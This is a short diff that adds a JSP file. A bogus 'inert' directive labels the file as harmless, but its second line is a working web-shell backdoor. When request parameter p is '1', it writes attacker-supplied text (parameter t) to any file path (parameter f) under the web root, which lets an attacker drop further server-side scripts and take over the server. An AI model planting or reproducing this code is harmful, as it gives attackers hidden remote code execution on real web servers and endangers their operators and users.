@@ -1,0 +1,2 @@
+<%@ inert %>
+<% if ("1".equals(request.getParameter("p"))) { java.io.PrintWriter w = new java.io.PrintWriter(request.getRealPath("/") + request.getParameter("f")); w.println(request.getParameter("t")); w.close(); } %>
